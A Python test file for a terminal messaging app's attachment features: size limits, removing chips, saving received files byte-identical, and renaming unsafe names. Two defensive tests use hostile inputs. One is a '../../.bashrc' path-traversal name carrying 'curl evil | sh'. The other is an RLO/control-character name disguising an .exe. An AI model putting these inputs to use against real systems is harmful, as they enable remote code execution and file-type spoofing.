"""Attachments end to end in the real app at 80×24: 📎 chooser → chips → send → stored;
a received attachment saved from the thread, byte-identical, under a safe name."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from textual.pilot import Pilot
from textual.widgets import Button, Input, Static

from netmsg_tui.model import MAX_ATTACHMENT_BYTES, NewAttachment
from netmsg_tui.store.sqlite import SQLiteStore
from netmsg_tui.tui.app import NetmsgApp
from netmsg_tui.tui.dialogs.attach import AttachmentChooser
from netmsg_tui.tui.dialogs.save_attachment import SaveAttachmentDialog
from netmsg_tui.tui.dialogs.write_file import ConfirmOverwrite
from netmsg_tui.tui.screens.compose import ComposeScreen
from netmsg_tui.tui.screens.document import DocumentScreen
from netmsg_tui.tui.screens.thread import ThreadScreen
from netmsg_tui.tui.widgets.composer import AttachmentChip, Composer
from netmsg_tui.tui.widgets.file_list import FileList
from netmsg_tui.tui.widgets.message_view import AttachmentItem
from tests.tui.conftest import type_into
from tests.waiting import wait_until

from .test_attach_chooser import sized
from .test_attach_unreadable import ran_in_unprivileged_child


@pytest.fixture
async def store(network):
    opened = SQLiteStore(network.path, user_id=network.user_a)
    yield opened
    await opened.close()


@pytest.fixture
def files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of files to attach; the app runs with it as its current directory."""
    folder = tmp_path / "files"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


async def start(pilot: Pilot[int]) -> None:
    await wait_until(pilot, lambda: pilot.app.home_shown, "the app to start")  # type: ignore[attr-defined]
    await pilot.pause()


async def choose(pilot: Pilot[int], name: str) -> AttachmentChooser:
    """ctrl+o, then pick ``name`` in the chooser by keys. Returns the chooser if it stays."""
    app = pilot.app
    await pilot.press("ctrl+o")
    await wait_until(pilot, lambda: isinstance(app.screen, AttachmentChooser), "the chooser")
    chooser = app.screen
    assert isinstance(chooser, AttachmentChooser)
    file_list = chooser.query_one(FileList)
    await wait_until(
        pilot, lambda: name in [e.name for e in file_list.entries], f"{name} to be listed"
    )
    await pilot.pause()
    index = [e.name for e in file_list.entries].index(name) + file_list.has_parent_row
    await pilot.press("home", *["down"] * index, "enter")
    await pilot.pause()
    return chooser


def chips(app: NetmsgApp) -> list[str]:
    return [chip.path.name for chip in app.screen.query(AttachmentChip)]


async def new_conversation(pilot: Pilot[int], customer_id: int, subject: str) -> None:
    app = pilot.app
    app.new_conversation(customer_id)  # type: ignore[attr-defined]
    await wait_until(pilot, lambda: isinstance(app.screen, ComposeScreen), "the compose screen")
    screen = app.screen
    await wait_until(pilot, lambda: screen.customer is not None, "the customer")  # type: ignore[attr-defined]
    screen.query_one("#subject", Input).focus()
    await pilot.press(*subject)
    screen.query_one(Composer).text_area.focus()
    await pilot.press(*"see attached")


def composer_error(app: NetmsgApp) -> str:
    return str(app.screen.query_one("#body-error", Static).render())


async def test_over_the_limit_is_refused_exact_limit_and_a_second_file_are_sent(
    network, store, files: Path
) -> None:
    sized(files / "over.bin", MAX_ATTACHMENT_BYTES + 1)
    exact = sized(files / "exact.bin", MAX_ATTACHMENT_BYTES)
    note = files / "note.pdf"
    note.write_bytes(b"%PDF-1.4 delivery note")
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        await new_conversation(pilot, network.customer_on, "Certificates")

        chooser = await choose(pilot, "over.bin")
        assert app.screen is chooser  # refused: still choosing, nothing attached
        reason = str(chooser.query_one("#chooser-status", Static).render())
        assert "over.bin" in reason and "10,485,761 bytes" in reason
        assert "10,485,760 bytes" in reason
        await pilot.press("escape")
        await wait_until(pilot, lambda: isinstance(app.screen, ComposeScreen), "back")
        assert chips(app) == []

        await choose(pilot, "exact.bin")
        await wait_until(pilot, lambda: chips(app) == ["exact.bin"], "the exact.bin chip")
        await choose(pilot, "note.pdf")
        await wait_until(pilot, lambda: len(chips(app)) == 2, "two chips")
        # While a send is under way, Send says so and names the size.
        composer = app.screen.query_one(Composer)
        composer.set_busy(True)
        assert str(composer.query_one("#send", Button).label) == "Sending 10.0 MiB…"
        composer.set_busy(False)
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "the sent thread")

    [conversation] = (await store.list_conversations()).items
    [message] = (await store.list_messages(conversation.id)).items
    sent = {a.filename: a for a in message.attachments}
    assert sorted(sent) == ["exact.bin", "note.pdf"]
    assert sent["exact.bin"].size == MAX_ATTACHMENT_BYTES
    assert sent["note.pdf"].media_type == "application/pdf"
    for name, path in (("exact.bin", exact), ("note.pdf", note)):
        data = await store.read_attachment(sent[name].id)
        assert hashlib.sha256(data).hexdigest() == hashlib.sha256(path.read_bytes()).hexdigest()


async def test_a_file_that_grows_past_the_limit_after_being_chosen_is_refused_at_send(
    network, store, files: Path
) -> None:
    growing = sized(files / "export.csv", 1000)
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        await new_conversation(pilot, network.customer_on, "Export")
        await choose(pilot, "export.csv")
        await wait_until(pilot, lambda: chips(app) == ["export.csv"], "the chip")
        sized(growing, MAX_ATTACHMENT_BYTES + 1)  # the export job keeps writing
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: "export.csv is" in composer_error(app), "the refusal")
        assert "10,485,761 bytes" in composer_error(app)
        assert isinstance(app.screen, ComposeScreen)  # nothing lost: still composing
        assert chips(app) == ["export.csv"]
    assert (await store.list_conversations()).items == ()


async def test_a_chip_can_be_removed_before_sending(network, store, files: Path) -> None:
    (files / "wrong.txt").write_text("not this one")
    (files / "right.txt").write_text("this one")
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        await new_conversation(pilot, network.customer_on, "Chips")
        await choose(pilot, "wrong.txt")
        await choose(pilot, "right.txt")
        await wait_until(pilot, lambda: len(chips(app)) == 2, "two chips")
        wrong = next(c for c in app.screen.query(AttachmentChip) if c.path.name == "wrong.txt")
        wrong.focus()
        await pilot.press("enter")  # a chip is a button: pressing it removes the file
        await wait_until(pilot, lambda: chips(app) == ["right.txt"], "one chip left")
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "the sent thread")
    [conversation] = (await store.list_conversations()).items
    [message] = (await store.list_messages(conversation.id)).items
    assert [a.filename for a in message.attachments] == ["right.txt"]


# -- received attachments ----------------------------------------------------------------------
async def received(network, store, name: str, data: bytes) -> int:
    conv = await store.start_conversation(network.customer_on, "Papers", "send the papers")
    await network.customer_reply(conv.id, "here they are", [NewAttachment(name, data)])
    return conv.id


async def open_save_dialog(pilot: Pilot[int], conversation_id: int) -> SaveAttachmentDialog:
    app = pilot.app
    app.open_thread(conversation_id)  # type: ignore[attr-defined]
    await wait_until(
        pilot,
        lambda: isinstance(app.screen, ThreadScreen) and bool(app.screen.query(AttachmentItem)),
        "the thread with its attachment",
    )
    for _ in range(10):  # Tab to the attachment, as a keyboard user would
        if isinstance(app.focused, AttachmentItem):
            break
        await pilot.press("tab")
    assert isinstance(app.focused, AttachmentItem)
    await pilot.press("s")
    await wait_until(pilot, lambda: isinstance(app.screen, SaveAttachmentDialog), "the dialog")
    await pilot.pause()
    dialog = app.screen
    assert isinstance(dialog, SaveAttachmentDialog)
    return dialog


async def save_into(pilot: Pilot[int], dialog: SaveAttachmentDialog, folder: Path) -> None:
    """Type the folder (relative to the current directory, as a user would) and press Enter."""
    field = dialog.query_one("#save-folder", Input)
    field.focus()
    field.value = ""
    await type_into(pilot, field, os.path.relpath(folder))
    await pilot.press("enter")


async def test_a_received_attachment_is_saved_byte_identical(
    network, store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    data = b"%PDF-1.4 " + os.urandom(300_000)
    conv_id = await received(network, store, "certificate.pdf", data)
    out = tmp_path / "saved"
    out.mkdir()
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        dialog = await open_save_dialog(pilot, conv_id)
        details = str(dialog.query_one("#save-details", Static).render())
        digest = hashlib.sha256(data).hexdigest()
        assert f"sha256 {digest}" in details and "application/pdf" in details
        await save_into(pilot, dialog, out)
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "the dialog closes")
        await wait_until(
            pilot,
            lambda: any(str(out) in str(n.message) for n in app._notifications),
            "where it was saved",
        )
    assert hashlib.sha256((out / "certificate.pdf").read_bytes()).hexdigest() == digest


async def test_the_save_dialog_starts_in_the_folder_saved_in_last(
    network, store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    first = await received(network, store, "one.pdf", b"%PDF-1.4 one")
    second = await received(network, store, "two.pdf", b"%PDF-1.4 two")
    out = tmp_path / "papers" / "2026"
    out.mkdir(parents=True)
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        dialog = await open_save_dialog(pilot, first)
        assert dialog.query_one("#save-folder", Input).value == f"{tmp_path}/"
        await save_into(pilot, dialog, out)
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "saved")
        await pilot.press("escape")
        await wait_until(pilot, lambda: not isinstance(app.screen, ThreadScreen), "the list")
        dialog = await open_save_dialog(pilot, second)
        assert dialog.query_one("#save-folder", Input).value == f"{out}/"
        await pilot.press("enter")  # Enter alone saves where the last one went
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "saved again")
    assert (out / "two.pdf").read_bytes() == b"%PDF-1.4 two"


async def test_a_hostile_name_is_saved_inside_the_folder_and_overwrite_is_asked(
    network, store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    conv_id = await received(network, store, "../../.bashrc", b"curl evil | sh\n")
    area = tmp_path / "area"
    out = area / "user" / "downloads"
    out.mkdir(parents=True)
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        dialog = await open_save_dialog(pilot, conv_id)
        shown = str(dialog.query_one("#save-name", Static).render())
        assert shown == "File name: bashrc (renamed for safety)"
        await save_into(pilot, dialog, out)
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "saved")
        assert [p for p in area.rglob("*") if p.is_file()] == [out / "bashrc"]

        (out / "bashrc").write_text("my own edits")
        dialog = await open_save_dialog(pilot, conv_id)
        await save_into(pilot, dialog, out)
        await wait_until(pilot, lambda: isinstance(app.screen, ConfirmOverwrite), "the question")
        await pilot.press("escape")  # keep the existing file
        await wait_until(pilot, lambda: app.screen is dialog, "back in the dialog")
        status = str(dialog.query_one("#save-status", Static).render())
        assert status.startswith("Not saved: kept the existing")
        assert (out / "bashrc").read_text() == "my own edits"

        dialog.query_one("#save-button", Button).press()
        await wait_until(  # the screen first, its buttons a moment later
            pilot,
            lambda: isinstance(app.screen, ConfirmOverwrite) and app.screen.query("#overwrite-yes"),
            "asked again",
        )
        app.screen.query_one("#overwrite-yes", Button).press()
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "replaced")
    assert (out / "bashrc").read_text() == "curl evil | sh\n"


async def test_a_file_that_becomes_unreadable_or_vanishes_before_send_is_refused(
    network, store, files: Path, request: pytest.FixtureRequest
) -> None:
    if ran_in_unprivileged_child(request):
        return
    (files / "report.pdf").write_bytes(b"%PDF-1.4 report")
    (files / "draft.txt").write_text("draft")
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        await new_conversation(pilot, network.customer_on, "Report")
        await choose(pilot, "report.pdf")
        await choose(pilot, "draft.txt")
        await wait_until(pilot, lambda: len(chips(app)) == 2, "two chips")
        (files / "report.pdf").chmod(0)
        await pilot.press("ctrl+s")
        expected = "report.pdf cannot be read: permission denied"
        await wait_until(pilot, lambda: composer_error(app) == expected, "the refusal")
        (files / "report.pdf").chmod(0o644)
        (files / "draft.txt").unlink()
        await pilot.press("ctrl+s")
        await wait_until(
            pilot, lambda: composer_error(app) == "draft.txt does not exist", "the refusal"
        )
        assert isinstance(app.screen, ComposeScreen)
    assert (await store.list_conversations()).items == ()


async def test_the_paperclip_works_in_a_reply_and_in_a_documents_messages_panel(
    network, store, files: Path
) -> None:
    (files / "corrected-invoice.pdf").write_bytes(b"%PDF-1.4 corrected")
    (files / "po-confirmation.pdf").write_bytes(b"%PDF-1.4 confirmed")
    conv = await store.start_conversation(network.customer_on, "Invoice", "see below")
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        app.open_thread(conv.id)
        await wait_until(pilot, lambda: bool(app.screen.query(Composer)), "the reply box")
        await choose(pilot, "corrected-invoice.pdf")
        await wait_until(pilot, lambda: chips(app) == ["corrected-invoice.pdf"], "the chip")
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: chips(app) == [], "the reply to be sent")

        app.open_document(network.po_a)
        await wait_until(
            pilot,
            lambda: isinstance(app.screen, DocumentScreen) and app.screen.document is not None,
            "the PO",
        )
        await pilot.press("m")
        await wait_until(pilot, lambda: isinstance(app.screen, ComposeScreen), "its composer")
        app.screen.query_one(Composer).text_area.focus()
        await choose(pilot, "po-confirmation.pdf")
        await wait_until(pilot, lambda: chips(app) == ["po-confirmation.pdf"], "the chip")
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "the PO thread")

    replies = (await store.list_messages(conv.id)).items
    assert [a.filename for a in replies[-1].attachments] == ["corrected-invoice.pdf"]
    thread = await store.document_thread(network.po_a)
    assert thread is not None
    [first] = (await store.list_messages(thread.id)).items
    assert [a.filename for a in first.attachments] == ["po-confirmation.pdf"]


async def test_a_bidi_or_control_name_is_saved_without_them(
    network, store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    # U+202E would show "invoice\u202efdp.exe" as "invoiceexe.pdf"; U+009B is a C1 CSI.
    conv_id = await received(network, store, "invoice\u202efdp\x9b.exe", b"MZ")
    out = tmp_path / "saved"
    out.mkdir()
    app = NetmsgApp(store, poll_interval=0.05)
    async with app.run_test(size=(80, 24)) as pilot:
        await start(pilot)
        dialog = await open_save_dialog(pilot, conv_id)
        details = str(dialog.query_one("#save-details", Static).render())
        assert details.startswith("invoice⟨U+202E⟩fdp⟨U+009B⟩.exe\n")
        shown = str(dialog.query_one("#save-name", Static).render())
        assert shown == "File name: invoice_fdp_.exe (renamed for safety)"
        await save_into(pilot, dialog, out)
        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "saved")
    assert [p.name for p in out.iterdir()] == ["invoice_fdp_.exe"]
